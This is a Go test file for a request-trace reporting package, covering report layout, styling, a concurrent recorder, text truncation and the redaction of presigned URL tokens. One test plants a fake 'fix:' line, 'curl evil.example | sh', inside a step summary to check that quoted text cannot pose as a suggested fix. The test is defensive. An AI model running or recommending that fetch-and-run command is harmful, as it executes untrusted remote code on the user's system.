package trace_test

import (
	"fmt"
	"runtime"
	"strings"
	"sync"
	"testing"
	"time"
	"unsafe"

	"github.com/furl-dev/furl/internal/tint"
	"github.com/furl-dev/furl/internal/trace"
	"github.com/google/go-cmp/cmp"
)

type finding struct {
	verdict trace.Verdict
	summary string
	details []string
	fix     []string
}

func (f finding) Verdict() trace.Verdict { return f.verdict }
func (f finding) Summary() string        { return f.summary }
func (f finding) Details() []string      { return f.details }
func (f finding) Fix() []string          { return f.fix }

var start = time.Date(2026, 11, 23, 15, 0, 0, 0, time.UTC)

func TestReportReadsFromTopToBottom(t *testing.T) {
	tr := trace.New("id-1", start, "GET", "/book?page=5", "x.localhost:9000", "127.0.0.1")
	tr.Add("route", start.Add(10*time.Microsecond), finding{verdict: trace.OK, summary: "url abc"})
	tr.Add("authorize", start.Add(50*time.Microsecond), finding{
		verdict: trace.Refused, summary: "lambda:InvokeFunction denied", details: []string{"nearest: one\n  two"},
		fix: []string{"aws lambda add-permission"},
	})
	tr.End(start.Add(60*time.Microsecond), 403, "AccessDeniedException")

	var text strings.Builder
	if _, err := tr.Report().WriteTo(&text); err != nil {
		t.Fatal(err)
	}
	want := `2026-11-23T15:00:00.000Z  id-1
GET /book?page=5  (host x.localhost:9000, from 127.0.0.1)
answered 403 AccessDeniedException in 60µs
  route        ok       url abc  (10µs)
  authorize    refused  lambda:InvokeFunction denied  (40µs)
                          nearest: one
                            two
fix:
  aws lambda add-permission
`
	if diff := cmp.Diff(want, text.String()); diff != "" {
		t.Error(diff)
	}
	if step, ok := tr.Report().Deciding(); !ok || step.Step != "authorize" {
		t.Errorf("deciding step is %v, %v; want authorize", step, ok)
	}
}

// styles are the parts of a text that have a style.
type styles struct {
	text  string
	parts []string
}

func (s *styles) Write(text []byte) (int, error) { s.text += string(text); return len(text), nil }

func (s *styles) Paint(text []byte, spans []tint.Span) error {
	s.text += string(text)
	for _, span := range spans {
		s.parts = append(s.parts, fmt.Sprint(span.Style, " ", string(text[span.From:span.To])))
	}
	return nil
}

// Mark changes no byte, and nothing that a step quotes can have the style of a step's verdict.
func TestMark(t *testing.T) {
	tr := trace.New("id-1", start, "GET", "/  x            ok       \xff", "h", "127.0.0.1")
	tr.Add("route", start, finding{verdict: trace.OK, summary: "fine"})
	tr.Add("cors", start, finding{verdict: trace.Warning, summary: "hm"})
	tr.Add("authorize", start, finding{
		verdict: trace.Refused, summary: "no\n  route        ok       yes", details: []string{"a\n  route        ok       b\nfix:"},
		fix: []string{"  route        ok       c"},
	})
	tr.Add("invoke", start, finding{verdict: trace.Failed, summary: "failed"})
	tr.End(start, 403, "")
	var text strings.Builder
	if _, err := tr.Report().WriteTo(&text); err != nil {
		t.Fatal(err)
	}
	var got styles
	if _, err := trace.Mark(text.String(), "").WriteTo(&got); err != nil || got.text != text.String() {
		t.Errorf("%v\n%s", err, got.text)
	}
	want := []string{
		fmt.Sprint(tint.Strong, " answered 403 in 0s"),
		fmt.Sprint(tint.Good, " ok"), fmt.Sprint(tint.Doubt, " warning"), fmt.Sprint(tint.Bad, " refused"),
		fmt.Sprint(tint.Bad, " failed"), fmt.Sprint(tint.Strong, " fix:"),
	}
	if diff := cmp.Diff(want, got.parts); diff != "" {
		t.Errorf("(-want +got)\n%s", diff)
	}
	if indented := trace.Mark("a\nb", "  ").String(); indented != "  a\n  b" {
		t.Errorf("%q", indented)
	}
}

// What a step quotes is one line of its own step, whatever it looks like.
func TestSummaryIsOneLine(t *testing.T) {
	tr := trace.New("id-1", start, "GET", "/", "h", "127.0.0.1")
	tr.Add("invoke", start, finding{verdict: trace.Failed, summary: "failed (a\nfix:\n  curl evil.example | sh)"})
	tr.End(start, 502, "")
	var text strings.Builder
	if _, err := tr.Report().WriteTo(&text); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(text.String(), `  failed (a\nfix:\n  curl evil.example | sh)  (0s)`+"\n") {
		t.Errorf("report is %s", &text)
	}
	if reason := tr.Report().Reason(); strings.Contains(reason, "\n") {
		t.Errorf("reason is %q", reason)
	}
}

func TestRecorderKeepsTheLatest(t *testing.T) {
	var recorder trace.Recorder
	if got := recorder.Latest(5); len(got) != 0 {
		t.Fatalf("an empty recorder has %d traces", len(got))
	}
	const all = trace.Kept + 10
	for i := range all {
		recorder.Record(trace.New(fmt.Sprint(i), start, "GET", "/", "", ""))
	}
	if got := recorder.Latest(2); got[0].RequestID != fmt.Sprint(all-1) || got[1].RequestID != fmt.Sprint(all-2) {
		t.Errorf("latest are %s and %s", got[0].RequestID, got[1].RequestID)
	}
	if _, ok := recorder.Find("9"); ok {
		t.Error("the oldest trace is still there")
	}
	if _, ok := recorder.Find("10"); !ok {
		t.Error("a trace within the last 1,000 is gone")
	}
}

func TestRecorderIsSafeForConcurrentUse(t *testing.T) {
	var recorder trace.Recorder
	var all sync.WaitGroup
	for i := range 4 {
		all.Go(func() {
			for j := range 2000 {
				recorder.Record(trace.New(fmt.Sprintf("%d-%d", i, j), start, "GET", "/", "", ""))
				recorder.Find("0-0")
			}
		})
	}
	all.Wait()
	if got := len(recorder.Latest(trace.Kept)); got != trace.Kept {
		t.Errorf("%d traces kept, want %d", got, trace.Kept)
	}
}

func TestLongTargetsAreCut(t *testing.T) {
	tr := trace.New("id", start, "GET", "/"+strings.Repeat("a", 100_000), "h", "")
	if len(tr.Target) > trace.MaxTarget+8 {
		t.Errorf("kept %d bytes of the target", len(tr.Target))
	}
}

// What a trace keeps is a copy: a piece of a request would keep all of it in memory.
func TestTextsAreCopies(t *testing.T) {
	whole := strings.Repeat("GET /book?page=5 HTTP/1.1", 1000)
	at := func(text string) uintptr { return uintptr(unsafe.Pointer(unsafe.StringData(text))) }
	inside := func(text string) bool { return at(text) >= at(whole) && at(text) < at(whole)+uintptr(len(whole)) }
	tr := trace.New("id", start, whole[:3], whole[4:16], whole[5:9], whole[2:8])
	for name, text := range map[string]string{
		"method":      tr.Method,
		"target":      tr.Target,
		"host":        tr.Host,
		"source":      tr.SourceIP,
		"short text":  trace.Keep(whole[4:16], 100).String(),
		"cut text":    trace.Keep(whole, 100).String(),
		"list":        trace.Join([]string{whole[4:16], whole[:3]}, ", ", 100).String(),
		"list of one": trace.Join([]string{whole[4:16]}, ", ", 100).String(),
		"cut list":    trace.Join([]string{whole[4:16], whole}, ", ", 10).String(),
		"texts":       trace.KeepAll(100, whole[4:16]).Strings()[0],
	} {
		if inside(text) {
			t.Errorf("%s %q is a piece of what it was taken from", name, text)
		}
	}
	runtime.KeepAlive(whole)
}

func TestTextsAreBounded(t *testing.T) {
	long := strings.Repeat("x", 3*trace.MaxText)
	const mark = "…"
	for name, test := range map[string]struct{ got, want string }{
		"whole":             {trace.Keep("abc", 3).String(), "abc"},
		"cut":               {trace.Keep("abcd", 3).String(), "abc" + mark},
		"bytes":             {trace.Keep([]byte("abcd"), 3).String(), "abc" + mark},
		"whole characters":  {trace.Keep("aé", 2).String(), "a" + mark},
		"not UTF-8":         {trace.Cut("\x80\x80\x80\x80\x80\x80", 5), "\x80" + mark},
		"more than may be":  {trace.Keep(long, len(long)).String(), long[:trace.MaxText] + mark},
		"list":              {trace.Join([]string{"a", "b"}, ", ", 10).String(), "a, b"},
		"cut list":          {trace.Join([]string{"abc", "def"}, ", ", 4).String(), "abc," + mark},
		"empty list":        {trace.Join(nil, ", ", 4).String(), ""},
		"list, than may be": {trace.Join([]string{long, long}, ", ", len(long)).String(), long[:trace.MaxText] + mark},
	} {
		if test.got != test.want {
			t.Errorf("%s: got %.40q, want %.40q", name, test.got, test.want)
		}
	}
	many := trace.KeepAll(2, "aaa", "b", "c", "d", "e", "f", "g")
	if diff := cmp.Diff([]string{"aa" + mark, "b", "c", "d", "e", "… and 2 more"}, many.Strings()); diff != "" {
		t.Error(diff)
	}
}

// A presigned URL is a credential for as long as it is good: a log or page that shows it gives it away.
func TestPresignedURLsAreHidden(t *testing.T) {
	for target, want := range map[string]string{
		"/a?b=c": "/a?b=c",
		"/a":     "/a",
		"/a?":    "/a?",
		"/?Action=AssumeRoleWithWebIdentity&WebIdentityToken=a.b.c&x=1":     "/?Action=AssumeRoleWithWebIdentity&WebIdentityToken=(hidden)&x=1",
		"/?%57ebIdentityToken=a.b.c":                                        "/?%57ebIdentityToken=(hidden)",
		"/a?x=1&X-Amz-Security-Token=secret%2Ftoken&y=2":                    "/a?x=1&X-Amz-Security-Token=(hidden)&y=2",
		"/a?x-amz-security-token=secret&X-Amz-Signature=5":                  "/a?x-amz-security-token=(hidden)&X-Amz-Signature=(hidden)",
		"/a?X-Amz-Security%2DToken=secret":                                  "/a?X-Amz-Security%2DToken=(hidden)",
		"/a?%zz=1&X-Amz-Signature":                                          "/a?%zz=1&X-Amz-Signature=(hidden)",
		"/a?X-Amz-Security-Token=" + strings.Repeat("s", 2*trace.MaxTarget): "/a?X-Amz-Security-Token=(hidden)",
	} {
		if got := trace.New("id", start, "GET", target, "h", "").Target; got != want {
			t.Errorf("%.60s is kept as %q, want %q", target, got, want)
		}
	}
}

// A trace that concerns several accounts belongs to none of them, in whatever order they are noted.
func TestAccount(t *testing.T) {
	for _, test := range []struct {
		concern []string
		want    string
	}{
		{nil, ""}, {[]string{""}, ""}, {[]string{"a"}, "a"}, {[]string{"", "a", "", "a"}, "a"},
		{[]string{"a", "b"}, ""}, {[]string{"a", "b", "a"}, ""}, {[]string{"a", "b", "b", "b"}, ""}, {[]string{"a", "b", "c"}, ""},
	} {
		found := trace.New("id", time.Now(), "GET", "/", "host", "127.0.0.1")
		for _, account := range test.concern {
			found.Concern(account)
		}
		if got := found.Account(); got != test.want {
			t.Errorf("a trace that concerns %q belongs to %q, want %q", test.concern, got, test.want)
		}
	}
}

// codified is a finding with a fix in forms.
type codified struct{ trace.Finding }

func (codified) FixAs(form string) (texts, sentences []string) {
	return []string{"in " + form}, []string{"a sentence"}
}

func TestFixAs(t *testing.T) {
	now := time.Now()
	traced := trace.New("id", now, "GET", "/", "h", "127.0.0.1")
	traced.Add("one", now, codified{finding{verdict: trace.Refused}})
	traced.Add("two", now, codified{finding{verdict: trace.Refused}})
	traced.Add("three", now, finding{verdict: trace.Refused, fix: []string{"furl env   # the keys", "sign it", "aws sts get-caller-identity"}})
	for form, want := range map[string][2][]string{
		"cli":  {{"in cli", "furl env   # the keys", "aws sts get-caller-identity"}, {"a sentence", "sign it"}},
		"json": {{"in json"}, {"a sentence", "furl env   # the keys", "sign it", "aws sts get-caller-identity"}},
	} {
		texts, sentences := traced.FixAs(form)
		if diff := cmp.Diff(want, [2][]string{texts, sentences}); diff != "" {
			t.Errorf("%s: %s", form, diff)
		}
	}
}
